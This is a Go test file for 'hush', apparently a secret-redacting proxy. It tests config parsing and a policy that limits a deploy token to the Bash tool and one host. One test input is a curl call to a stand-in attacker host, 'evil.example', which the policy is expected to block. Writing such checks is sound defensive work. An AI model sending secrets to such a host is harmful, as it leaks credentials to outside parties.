// SPDX-License-Identifier: Apache-2.0
// Copyright 2026 The hush Authors

package main

import (
	"strings"
	"testing"

	"github.com/hushproxy/hush/redact"
)

func TestRehydrateConfig(t *testing.T) {
	tests := []struct {
		yaml, mode, err string
	}{
		{"rehydrate: hooks\n", "hooks", ""},
		{"rehydrate: both\n", "both", ""},
		{"rehydrate:\n  mode: stream\n  rules:\n    github-pat: {hosts: [github.com]}\n", "stream", ""},
		{"rehydrate: sometimes\n", "", `mode "sometimes"`},
		{"rehydrate:\n  mode: hooks\n  rulez: {}\n", "", `unknown key "rulez"`},
		{"rehydrate:\n  secrets:\n    X: {tools: [Bash], hostz: [a]}\n", "", `unknown key "hostz"`},
	}
	for _, tt := range tests {
		cfg, err := parseConfig("config.yaml", []byte(tt.yaml))
		switch {
		case tt.err != "":
			if err == nil || !strings.Contains(err.Error(), tt.err) || !strings.Contains(err.Error(), "config.yaml") {
				t.Errorf("parseConfig(%q) = %v, want an error naming the file and %q", tt.yaml, err, tt.err)
			}
		case err != nil:
			t.Errorf("parseConfig(%q): %v", tt.yaml, err)
		case cfg.Rehydrate.Mode != tt.mode:
			t.Errorf("parseConfig(%q).Rehydrate.Mode = %q, want %q", tt.yaml, cfg.Rehydrate.Mode, tt.mode)
		}
	}
}

// TestPolicyFromSecrets checks that a named secret's tools and hosts in
// secrets: bind it in the rehydration policy.
func TestPolicyFromSecrets(t *testing.T) {
	cfg, err := parseConfig("config.yaml", []byte("secrets:\n  - name: DEPLOY_TOKEN\n    env: DEPLOY_TOKEN\n    tools: [Bash]\n    hosts: [deploy.example.com]\n"))
	if err != nil {
		t.Fatal(err)
	}
	pol, err := cfg.policy()
	if err != nil {
		t.Fatal(err)
	}
	r, err := redact.New(redact.Options{Rules: []redact.Rule{}})
	if err != nil {
		t.Fatal(err)
	}
	iss := redact.Issue{RuleID: redact.KnownRuleID, Kind: "deploy-token", Known: true}
	if got := pol.Check(r, iss, "Bash", []byte("curl https://deploy.example.com/x")); got != "" {
		t.Errorf("allowed host refused: %q", got)
	}
	if got := pol.Check(r, iss, "Bash", []byte("curl https://evil.example/x")); got != "destination" {
		t.Errorf("other host: %q, want destination", got)
	}
	if got := pol.Check(r, iss, "Write", []byte("x")); got != "tool" {
		t.Errorf("other tool: %q, want tool", got)
	}
}
